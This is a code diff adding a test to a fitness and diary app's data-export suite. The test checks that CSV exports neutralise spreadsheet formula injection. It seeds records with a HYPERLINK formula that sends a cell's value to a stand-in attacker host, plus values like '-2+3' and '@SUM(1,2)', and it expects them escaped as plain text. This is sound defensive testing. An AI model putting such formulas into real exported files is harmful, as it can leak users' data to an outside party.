@@ -7,7 +7,7 @@ import type { ExportStatusJson } from "../../core/api/transfers";
 import { eq } from "drizzle-orm";
 import { app } from "../../worker/app";
 import { getDb } from "../../worker/db/client";
-import { profiles } from "../../worker/db/schema";
+import { diaryEntries, profiles, workoutSessions } from "../../worker/db/schema";
 import { exportFiles } from "../../worker/account-data/files";
 import { sessionIdFromToken } from "../../worker/shared/session/store";
 import { fresh } from "./auth-helpers";
@@ -434,6 +434,24 @@ describe("Download my data: the ZIP", { timeout: 30_000 }, () => {
     }
     // The member's own records are there: the search looks at real content.
     expect(Object.values(files).some((bytes) => strFromU8(bytes, true).includes(m.marker))).toBe(true);
+  });
+
+  it("writes a text that a spreadsheet would run as a formula as plain text, and numbers as numbers", async () => {
+    const m = await memberWithEverything();
+    const db = getDb(env.DB);
+    const formula = '=HYPERLINK("https://evil.example/?"&B2,"open")';
+    await db.update(workoutSessions).set({ name: formula, note: "-2+3" }).where(eq(workoutSessions.id, m.workout.sessionId));
+    await db.update(diaryEntries).set({ nameEn: "@SUM(1,2)" }).where(eq(diaryEntries.id, m.diary.foodEntryId));
+    const { files } = await download(m.token);
+    const sets = csv(files, "workouts/sets.csv").data.filter((row) => row.date === "2026-11-20");
+    expect(sets.length).toBeGreaterThan(0);
+    for (const row of sets) {
+      expect(row.workout).toBe(`'${formula}`);
+      expect(row.workout_note).toBe("'-2+3");
+    }
+    expect(sets.map((row) => row.weight_kg)).toContain("52.5");
+    const snack = csv(files, "diary/entries.csv").data.find((row) => row.meal === "snack");
+    expect(snack).toMatchObject({ name_en: "'@SUM(1,2)", grams: "50" });
   });
 
   it("gives an empty feature its file all the same: a CSV with its header, an empty list, null", async () => {
